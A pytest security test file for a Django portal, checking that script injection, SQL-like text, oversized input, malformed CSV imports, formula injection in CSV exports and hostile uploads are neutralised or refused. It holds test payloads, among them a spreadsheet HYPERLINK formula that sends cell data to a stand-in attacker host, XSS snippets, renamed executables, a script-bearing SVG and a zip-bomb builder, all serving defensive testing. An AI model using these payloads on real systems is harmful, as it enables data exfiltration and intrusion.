"""Hostile input across the portal: script injection into every field shown back, SQL-ish and oversized
text, malformed CSV, spreadsheet formulas in exports, and hostile uploads.

Rendered pages are parsed (lxml) and searched for anything that would run:
a ``<script>`` that is not one of our static files, an ``on…=`` handler, a
``javascript:``/``vbscript:``/``data:text/html`` address, or an element that
can load active content.  Refused input must leave no row and no file behind.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import lxml.html
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.security.payloads import SHORT_PAYLOADS, SQL_ISH, XSS_PAYLOADS

ALL_PAYLOADS = "\n\n".join(XSS_PAYLOADS)
DANGEROUS_URL = ("javascript:", "vbscript:", "data:text/html")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
ACTIVE_TAGS = {"iframe", "object", "embed", "base", "frame", "applet"}


def live_script(html: str) -> list[str]:
    """Everything in ``html`` a browser would run or load as active content."""
    found = []
    for element in lxml.html.document_fromstring(html).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        if tag == "script" and not (element.get("src", "").startswith("/static/") or element.get("type") == "application/json"):
            found.append(lxml.html.tostring(element, encoding="unicode")[:120])
        if tag in ACTIVE_TAGS or (tag == "meta" and element.get("http-equiv", "").lower() == "refresh"):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and "".join(value.split()).lower().startswith(DANGEROUS_URL):
                found.append(f"<{tag} {name}={value[:40]}>")
    return found


def assert_nothing_runs(response) -> None:
    assert response.status_code == 200, response.status_code
    assert live_script(response.content.decode()) == []


@pytest.fixture(autouse=True)
def _media_and_no_posting_limit(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.FORUM_POSTS_PER_WINDOW = 1000


@pytest.fixture
def board(db):
    from forum.models import Board, Subsection

    return Board.objects.create(subsection=Subsection.objects.create(name="Management"), name="Commissioning and contracts")


def files_in(root) -> list[Path]:
    return [p for p in Path(root).rglob("*") if p.is_file()]


# --- script injection, field by field ------------------------------------------------------------


def test_the_checker_finds_a_live_script():
    assert live_script('<p><img src=x onerror="alert(1)"><a href=" javascript:alert(1)">x</a><script>alert(1)</script></p>')


def test_forum_titles_and_bodies_show_no_live_script(member, other_org_member, board, client_for):
    from forum.services import post_reply, post_thread

    threads = [post_thread(member, board, title=payload, body=ALL_PAYLOADS) for payload in SHORT_PAYLOADS]
    post_reply(other_org_member, threads[0], body=ALL_PAYLOADS)
    client = client_for(other_org_member)

    assert_nothing_runs(client.get(reverse("forum:board", args=[board.slug])))
    assert_nothing_runs(client.get(reverse("forum:index")))
    for thread in threads:
        assert_nothing_runs(client.get(reverse("forum:thread", args=[thread.pk])))


def test_profile_fields_show_no_live_script(member, other_org_member, client_for):
    from directory.services import update_profile

    update_profile(member, first_name=SHORT_PAYLOADS[0], last_name=SHORT_PAYLOADS[1], job_role="gp", job_title=SHORT_PAYLOADS[2],
                   bio=ALL_PAYLOADS[:2000], phone="01206 555 0100")
    client = client_for(other_org_member)

    assert_nothing_runs(client.get(reverse("directory:member", args=[member.pk])))
    assert_nothing_runs(client.get(reverse("directory:list")))
    assert_nothing_runs(client.get(reverse("directory:list") + "?q=" + SHORT_PAYLOADS[0]))


def test_matrix_entry_fields_show_no_live_script(cluster_lead, region, service_areas, other_org_member, client_for):
    from redesign.services import create_entry

    entry = create_entry(actor=cluster_lead.user, organisation=region["cluster"], service_area=service_areas["Dermatology"],
                         title=SHORT_PAYLOADS[0], summary=ALL_PAYLOADS, outcomes=ALL_PAYLOADS, ppi=ALL_PAYLOADS)
    client = client_for(other_org_member)

    assert_nothing_runs(client.get(reverse("redesign:entry", args=[entry.pk])))
    assert_nothing_runs(client.get(reverse("redesign:matrix")))
    assert_nothing_runs(client.get(reverse("redesign:entries")))
    assert_nothing_runs(client.get(reverse("redesign:entries_print")))


def test_event_text_shows_no_live_script(member, client_for):
    from datetime import timedelta

    from django.utils import timezone

    from events.models import EventIndexPage, EventPage, EventSession
    from portal.site.models import HomePage

    index = HomePage.objects.first().add_child(instance=EventIndexPage(title="Events", slug="events"))
    start = timezone.now() + timedelta(days=7)
    event = EventPage(title=SHORT_PAYLOADS[0], slug="hostile", summary=SHORT_PAYLOADS[1], speakers=ALL_PAYLOADS, venue=ALL_PAYLOADS, audience="public")
    event.sessions.add(EventSession(starts_at=start, ends_at=start + timedelta(hours=2)))
    index.add_child(instance=event)
    event.save_revision().publish()
    client = client_for(member)

    assert_nothing_runs(client.get(event.url))
    assert_nothing_runs(client.get(index.url))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_search_query_is_echoed_without_live_script(client, db, payload):
    assert_nothing_runs(client.get(reverse("search:search"), {"q": payload}))


def test_attachment_file_names_show_no_live_script(member, other_org_member, board, client_for):
    from forum.services import post_thread

    files = [SimpleUploadedFile(f"{payload}.txt", b"Minutes of the meeting.", content_type="text/plain") for payload in SHORT_PAYLOADS]
    thread = post_thread(member, board, title="Minutes", body="Attached.", attachments=files)

    assert_nothing_runs(client_for(other_org_member).get(reverse("forum:thread", args=[thread.pk])))


def test_guidance_and_link_titles_show_no_live_script(member, client_for):
    from portal.guidance.models import GuidanceIndexPage, GuidancePage, Link
    from portal.site.models import HomePage

    index = HomePage.objects.first().add_child(instance=GuidanceIndexPage(title="Guidance", slug="guidance"))
    page = index.add_child(instance=GuidancePage(title=SHORT_PAYLOADS[0], slug="hostile", summary=ALL_PAYLOADS))
    page.save_revision().publish()
    for n, payload in enumerate(SHORT_PAYLOADS):
        Link.objects.create(title=payload, url=f"https://example.org/{n}", description=ALL_PAYLOADS)
    client = client_for(member)

    assert_nothing_runs(client.get(page.url))
    assert_nothing_runs(client.get(index.url))
    assert_nothing_runs(client.get(index.url + index.reverse_subpage("links")))


# --- SQL-ish and oversized input ------------------------------------------------------------------


@pytest.mark.parametrize("text", SQL_ISH)
def test_sql_ish_text_is_stored_and_searched_as_plain_text(member, board, client_for, text):
    from forum.models import Thread
    from forum.services import post_thread

    thread = post_thread(member, board, title=text, body=text)

    assert Thread.objects.get(pk=thread.pk).title == text
    assert client_for(member).get(reverse("search:search"), {"q": text}).status_code == 200
    assert Thread.objects.count() == 1


def test_oversized_search_query_gets_a_page_not_an_error(client, db):
    assert client.get(reverse("search:search"), {"q": "dermatology " * 2000}).status_code == 200


def test_oversized_forum_post_gets_a_clear_message_and_saves_nothing(member, board, client_for):
    from forum.models import Thread

    response = client_for(member).post(reverse("forum:new_thread", args=[board.slug]), {"title": "Long", "body": "x" * 20_001})

    assert response.status_code == 200
    assert "at most 20000 characters" in response.content.decode().replace(",", "")
    assert not Thread.objects.exists()


def test_oversized_thread_title_gets_a_clear_message_and_saves_nothing(member, board, client_for):
    from forum.models import Thread

    response = client_for(member).post(reverse("forum:new_thread", args=[board.slug]), {"title": "T" * 201, "body": "Fine."})

    assert "at most 200 characters" in response.content.decode()
    assert not Thread.objects.exists()


# --- CSV: malformed imports, and formulas in exports ----------------------------------------------


@pytest.mark.parametrize("data", [b"\xff\xfe\x00\x00binary\x00rubbish", "name,kind\nSurgery,practice\n".encode("utf-16"), b"PK\x03\x04not a csv"])
def test_import_of_a_file_that_is_not_utf8_csv_gets_a_message_and_imports_nothing(network_admin, client_for, data):
    from directory.models import Member, Organisation
    from redesign.models import MatrixEntry

    client = client_for(network_admin)
    before = (Organisation.objects.count(), Member.objects.count(), MatrixEntry.objects.count())

    directory = client.post(reverse("directory:import"), {"kind": "organisations", "file": SimpleUploadedFile("orgs.csv", data)})
    redesign = client.post(reverse("redesign:import"), {"file": SimpleUploadedFile("entries.csv", data)}, follow=True)

    assert directory.status_code in (200, 400) and not re.search(r"Imported \d", directory.content.decode())
    assert [m.level_tag for m in redesign.context["messages"]] == ["error"]
    assert (Organisation.objects.count(), Member.objects.count(), MatrixEntry.objects.count()) == before


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open the business case")'


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def test_matrix_export_neutralises_spreadsheet_formulas(cluster_lead, region, service_areas, network_admin, client_for):
    from redesign.services import create_entry

    create_entry(actor=cluster_lead.user, organisation=region["cluster"], service_area=service_areas["Dermatology"], title=FORMULA,
                 summary="+SUM(A1:A9)", outcomes="@cmd", ppi="-2+3")

    cells = csv_cells(client_for(network_admin).get(reverse("redesign:entries_export")))

    assert "'" + FORMULA in cells and "'+SUM(A1:A9)" in cells and "'@cmd" in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell and cell[0] in "=+@"]


def test_directory_export_neutralises_spreadsheet_formulas(member, network_admin, client_for):
    from directory.services import update_profile

    update_profile(member, first_name=FORMULA, last_name="Marsh", job_role="gp", job_title="@SUM(1+1)")

    cells = csv_cells(client_for(network_admin).get(reverse("directory:export")))

    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells


# --- hostile uploads through the entry attachment form --------------------------------------------


def _zip_bomb_docx() -> bytes:
    from tests.redesign.conftest import docx_bytes

    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        target.writestr("word/media/padding.bin", b"\0" * (60 * 1024 * 1024))
    return out.getvalue()


def _macro_docx() -> bytes:
    from tests.redesign.conftest import docx_bytes

    return docx_bytes(macro=True)


HOSTILE_UPLOADS = {
    "renamed Windows program": ("minutes.pdf", lambda: b"MZ\x90\x00" + b"\0" * 200),
    "renamed Linux program": ("budget.docx", lambda: b"\x7fELF" + b"\0" * 200),
    "macro-enabled Word document": ("business-case.docx", _macro_docx),
    "zip bomb disguised as DOCX": ("specification.docx", _zip_bomb_docx),
    "SVG with a script": ("diagram.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "SVG with a script renamed PDF": ("diagram.pdf", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "HTML page renamed text": ("notes.txt", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    "legacy Word file": ("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
}


@pytest.mark.parametrize("kind", list(HOSTILE_UPLOADS))
def test_hostile_upload_gets_a_clear_message_and_leaves_no_row_or_file(kind, cluster_lead, region, service_areas, client_for, settings):
    from wagtail.documents import get_document_model

    from redesign.models import EntryDocument
    from redesign.services import create_entry

    entry = create_entry(actor=cluster_lead.user, organisation=region["cluster"], service_area=service_areas["Dermatology"], title="Dermatology")
    name, make = HOSTILE_UPLOADS[kind]
    files_before = files_in(settings.MEDIA_ROOT)
    rows_before = (EntryDocument.objects.count(), get_document_model().objects.count())

    response = client_for(cluster_lead).post(reverse("redesign:entry_attach", args=[entry.pk]),
                                             {"title": kind, "file": SimpleUploadedFile(name, make())}, follow=True)

    messages = [str(m) for m in response.context["messages"]]
    assert messages and all("has been attached" not in m for m in messages), messages
    assert any(len(m) > 30 for m in messages), messages  # a sentence that says what to do, not a code
    assert (EntryDocument.objects.count(), get_document_model().objects.count()) == rows_before
    assert files_in(settings.MEDIA_ROOT) == files_before


# --- a PDF that hangs the parser ------------------------------------------------------------------
# It is a valid PDF, so the upload check accepts it and the document is stored whole; reading its text for
# search happens afterwards in a child process with a time limit (search/extraction.py), which stops it and
# records why. The portal documents this: the document stays listed, its text is "Text could not be extracted".


def _upload_to_entry(client, user, region, service_areas, upload):
    from redesign.services import create_entry

    entry = create_entry(actor=user, organisation=region["cluster"], service_area=service_areas["Dermatology"], title="Dermatology")
    return client.post(reverse("redesign:entry_attach", args=[entry.pk]), {"title": "Business case", "file": upload}, follow=True)


def _upload_template_version(client, user, region, service_areas, upload):
    from redesign.services import create_template
    from tests.security.world import docx_upload

    template = create_template(actor=user, title="Business case template", kind="business_case", upload=docx_upload(),
                               organisation=region["cluster"])  # the lead's own cluster (issue 21.2)
    return client.post(reverse("redesign:template_add_version", args=[template.pk]), {"file": upload}, follow=True)


PDF_UPLOAD_ROUTES = {"matrix entry attachment": _upload_to_entry, "template library version": _upload_template_version}


@pytest.mark.parametrize("route", list(PDF_UPLOAD_ROUTES))
def test_pdf_that_hangs_the_parser_is_kept_whole_and_its_reading_is_stopped_by_the_time_limit(
        route, cluster_lead, region, service_areas, client_for, monkeypatch, django_capture_on_commit_callbacks):
    from wagtail.documents import get_document_model

    from search import extraction
    from search.models import DocumentText
    from tests.security.payloads import hanging_pdf

    monkeypatch.setattr(extraction, "TIMEOUT_SECONDS", 5)  # the child's limit: 30 s in the portal; this file needs minutes
    data = hanging_pdf()
    documents_before = set(get_document_model().objects.values_list("pk", flat=True))

    with django_capture_on_commit_callbacks(execute=True):  # extraction runs after the upload commits
        response = PDF_UPLOAD_ROUTES[route](client_for(cluster_lead), cluster_lead.user, region, service_areas,
                                            SimpleUploadedFile("business-case.pdf", data, content_type="application/pdf"))

    assert [m.level_tag for m in response.context["messages"]] == ["success"]
    [document] = get_document_model().objects.exclude(pk__in=documents_before).filter(file__endswith=".pdf")
    with document.file.open("rb") as stored:
        assert stored.read() == data
    text = DocumentText.objects.get(document=document)
    assert text.status == DocumentText.Status.FAILED and text.text == ""
    assert text.reason == "Text could not be extracted: reading the file took longer than 5 seconds."
